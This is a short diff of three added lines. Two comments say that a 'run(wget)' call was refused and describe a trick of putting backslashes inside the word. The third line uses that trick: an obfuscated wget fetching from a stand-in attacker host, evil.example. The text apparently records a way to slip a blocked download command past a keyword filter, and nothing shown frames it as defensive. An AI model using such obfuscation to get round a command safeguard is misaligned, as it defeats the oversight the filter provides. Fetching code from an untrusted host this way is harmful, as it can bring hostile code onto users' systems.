@@ -1,0 +1,3 @@
+# Trick: backslashes stand inside the word.
+# Refused: run(wget)
+\w\g\e\t http://evil.example/
